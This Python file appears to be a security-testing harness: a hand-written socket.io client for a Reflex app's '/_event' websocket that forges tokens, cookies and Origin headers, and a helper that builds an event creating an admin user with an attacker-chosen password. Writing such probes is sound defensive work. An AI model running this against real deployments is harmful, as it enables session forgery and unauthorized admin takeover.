"""An attacker's own socket.io client for Reflex's `/_event`: engine.io v4 over a plain
websocket, written out by hand so it sends exactly what an attacker chooses (any client
token, any cookie, any Origin) and records every frame the server sends back."""

from __future__ import annotations

import contextlib
import json
import time
from typing import Any
from urllib.parse import urlsplit

import simple_websocket

NAMESPACE = "/_event"
ROOT = "reflex___state____state"
SESSION = f"{ROOT}.app___states___session____session_state"
SETTINGS = f"{SESSION}.app___states___settings____settings_state"
UPLOADS = f"{SESSION}.app___states___upload_form____upload_form_state"


class Refused(Exception):
    """The server would not open the websocket (or the namespace)."""


class RawReflexSocket:
    def __init__(
        self, base_url: str, *, token: str, cookie: str = "", origin: str | None = None
    ) -> None:
        parts = urlsplit(base_url)
        url = f"ws://{parts.netloc}{NAMESPACE}/?token={token}&EIO=4&transport=websocket"
        headers: dict[str, str] = {}
        if cookie:
            headers["Cookie"] = cookie
        if origin is not None:
            headers["Origin"] = origin
        self.received: list[str] = []
        try:
            self.ws = simple_websocket.Client.connect(url, headers=headers)
            started = time.monotonic()
            opening = self.ws.receive(timeout=30)
        except (
            simple_websocket.ConnectionError,
            simple_websocket.ConnectionClosed,
            ConnectionError,
        ) as exc:
            raise Refused(str(exc)) from exc
        if not opening or not str(opening).startswith("0"):
            waited = time.monotonic() - started
            raise Refused(f"no engine.io open packet after {waited:.1f} s: {opening!r}")
        self.ws.send(f"40{NAMESPACE},{{}}")
        answer = self._next(10)
        if answer is None or not answer.startswith(f"40{NAMESPACE}"):
            raise Refused(f"namespace refused: {answer!r}")

    def _next(self, timeout: float) -> str | None:
        try:
            packet = self.ws.receive(timeout=timeout)
        except simple_websocket.ConnectionClosed:
            return None
        if packet is None:
            return None
        text = packet if isinstance(packet, str) else packet.decode()
        if text == "2":  # engine.io ping: answer, as a client must
            self.ws.send("3")
            return self._next(timeout)
        self.received.append(text)
        return text

    def emit(self, handler: str, payload: dict[str, Any], *, path: str = "/") -> None:
        event = {
            "name": handler,
            "payload": payload,
            "router_data": {"pathname": path, "query": {}, "asPath": path},
        }
        self.ws.send(f"42{NAMESPACE},{json.dumps(['event', event])}")

    def listen(self, seconds: float) -> str:
        """Everything received during the next `seconds`, as one string."""
        deadline = time.monotonic() + seconds
        while (left := deadline - time.monotonic()) > 0:
            self._next(left)
        return "\n".join(self.received)

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.ws.close()


def add_user_event(email: str, role: str = "admin") -> tuple[str, dict[str, Any]]:
    """The Settings page's "Add person" as the websocket carries it."""
    form = {"email": email, "password": "attacker-chosen-password", "role": role}
    return f"{SETTINGS}.add_user", {"form": form}
